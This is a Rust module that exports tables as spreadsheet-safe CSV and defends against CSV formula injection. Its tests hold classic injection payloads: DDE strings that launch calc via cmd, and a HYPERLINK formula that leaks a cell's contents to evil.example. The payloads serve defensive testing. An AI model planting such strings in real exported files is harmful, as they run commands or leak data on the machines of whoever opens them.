//! CSV that opens cleanly in Excel and LibreOffice: UTF-8 (optionally with a
//! byte order mark, which browser downloads carry by default), numbers in
//! plain decimal notation (never `1E+05`), codes as text. Provenance goes to
//! a sidecar.
//!
//! - **Suppressed counts keep numeric columns numeric**: a suppressed cell is
//!   left empty and every column with a suppressed cell is followed by a
//!   `<column>_suppressed` flag column (`1` suppressed, `0` not), so a
//!   spreadsheet still sums and sorts the column as numbers.
//! - **Formula injection** (OWASP "CSV injection"): a text cell starting
//!   with `=`, `+`, `-`, `@`, tab or carriage return is prefixed with a
//!   single quote so no spreadsheet runs it as a formula. Numbers are
//!   written by needmap itself and never touched, so `-0.25` stays a number.

use std::io::Write;

use super::{ExportError, Prepared};
use crate::report::Cell;

/// The UTF-8 byte order mark Excel uses to detect UTF-8.
pub const BOM: &[u8] = b"\xEF\xBB\xBF";

/// Suffix of the flag column that follows a column with suppressed cells.
pub const SUPPRESSED_SUFFIX: &str = "_suppressed";

/// Characters that make a spreadsheet read a cell as a formula.
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Neutralise text a spreadsheet would run as a formula (OWASP rule).
///
/// ```
/// use needmap::export::csv::neutralise;
/// assert_eq!(neutralise("=HYPERLINK(\"http://x\")"), "'=HYPERLINK(\"http://x\")");
/// assert_eq!(neutralise("@SUM(A1)"), "'@SUM(A1)");
/// assert_eq!(neutralise("Keighley East"), "Keighley East");
/// ```
pub fn neutralise(text: &str) -> std::borrow::Cow<'_, str> {
    if text.starts_with(FORMULA_START) {
        std::borrow::Cow::Owned(format!("'{text}"))
    } else {
        std::borrow::Cow::Borrowed(text)
    }
}

/// A cell as CSV text: text neutralised, numbers as they are.
fn field(cell: &Cell) -> String {
    match cell {
        Cell::Text(Some(t)) => neutralise(t).into_owned(),
        other => other.render(),
    }
}

pub fn write(prepared: &Prepared, bom: bool, out: &mut dyn Write) -> Result<(), ExportError> {
    if bom {
        out.write_all(BOM)?;
    }
    let table = &prepared.features.table;
    let suppression = &prepared.suppression;
    let flagged: Vec<bool> = (0..table.columns.len())
        .map(|c| (0..table.rows.len()).any(|r| suppression.is_suppressed(r, c)))
        .collect();
    let mut w = csv::WriterBuilder::new().terminator(csv::Terminator::CRLF).from_writer(out);
    let mut header = Vec::with_capacity(table.columns.len() + flagged.len());
    for (c, name) in table.columns.iter().enumerate() {
        header.push(neutralise(name).into_owned());
        if flagged[c] {
            header.push(neutralise(&format!("{name}{SUPPRESSED_SUFFIX}")).into_owned());
        }
    }
    w.write_record(&header)?;
    let mut record = Vec::with_capacity(header.len());
    for (r, row) in table.rows.iter().enumerate() {
        record.clear();
        for (c, cell) in row.iter().enumerate() {
            let suppressed = suppression.is_suppressed(r, c);
            record.push(if suppressed { String::new() } else { field(cell) });
            if flagged.get(c) == Some(&true) {
                record.push(if suppressed { "1" } else { "0" }.to_string());
            }
        }
        w.write_record(&record)?;
    }
    w.flush()?;
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn classic_payloads_are_neutralised_and_plain_text_is_kept() {
        for payload in [
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+9)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
        ] {
            let out = neutralise(payload);
            assert!(out.starts_with('\''), "{payload:?} -> {out:?}");
            assert_eq!(&out[1..], payload);
        }
        for plain in ["Keighley & Shipley", "E05001346", "", "1-2 Main St", "'quoted"] {
            assert_eq!(neutralise(plain), plain);
        }
        // Numbers are never neutralised, even negative ones.
        assert_eq!(field(&Cell::Number(Some(-0.25))), "-0.25");
        assert_eq!(field(&Cell::Text(Some("-0.25".into()))), "'-0.25");
    }
}
